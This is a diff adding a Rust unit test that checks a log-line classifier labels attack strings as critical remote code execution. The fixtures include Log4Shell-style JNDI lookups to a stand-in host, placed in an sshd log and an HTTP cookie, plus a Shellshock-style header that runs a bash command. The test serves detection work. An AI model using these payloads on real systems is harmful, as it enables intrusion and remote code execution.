@@ -106,6 +106,17 @@ mod tests {
     }
 
     #[test]
+    fn no_format_hides_a_payload() {
+        for message in [
+            "Jan  1 00:00:00 h sshd[1]: Invalid user ${jndi:ldap://e.example/a} from 203.0.113.7 port 9",
+            r#"{"request":{"headers":{"x-api":"() { :;}; /bin/bash -c id"}}}"#,
+            "GET /index.html HTTP/1.1 cookie=${jndi:ldap://e.example/a}",
+        ] {
+            check(message, Category::RemoteCodeExecution, Severity::Critical);
+        }
+    }
+
+    #[test]
     fn everyday_lines_are_none() {
         for message in [
             "LOG:  duration: 842.714 ms  statement: SELECT a FROM test WHERE b = 1 AND c = 1 UNION SELECT 2",
